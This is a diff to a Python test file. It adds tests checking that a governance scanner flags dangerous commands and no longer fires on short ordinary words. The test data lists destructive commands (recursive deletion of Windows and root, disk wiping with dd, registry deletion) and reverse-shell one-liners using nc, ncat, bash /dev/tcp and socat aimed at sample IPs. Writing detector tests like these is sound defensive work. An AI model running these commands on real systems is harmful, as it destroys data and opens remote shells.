@@ -119,3 +119,19 @@ def test_narrowed_windows_on_real_text() -> None:
 ])
 def test_innocent_senses_and_handles(text: str, toxic: bool) -> None:
     assert ("toxic" in GovernanceEngine().scan(text).categories) is toxic, text
+
+
+@pytest.mark.parametrize("text", [
+    "del /f /s /q c:\\windows", "rd /s /q C:\\", "reg delete HKLM\\Software\\Policies /f",
+    "dd if=/dev/zero of=/dev/sda bs=1M", "nc -e /bin/sh 10.0.0.1 4444", "ncat -e /bin/bash 1.2.3.4 9001",
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socat tcp:1.2.3.4:4444 exec:sh", "os.system(\"rm -rf /\")",
+])
+def test_commands_are_anchored_on_parts_every_match_needs(text: str) -> None:
+    assert "dangerous_command" in {v.type for v in GovernanceEngine().scan(text).violations}, text
+
+
+def test_short_command_words_alone_run_no_regex() -> None:
+    # "rd", "del", "sh", "os", "av", "dd" are words of ordinary text; none of them anchors a command rule any more
+    rs = default_ruleset()
+    words = "the 3rd rd sh os av dd del reg bash party in the os"
+    assert not any(rs.rules[rid].signal == "command" for _, _, ids in rs.anchor_hits(words) for rid in ids if rid >= 0)
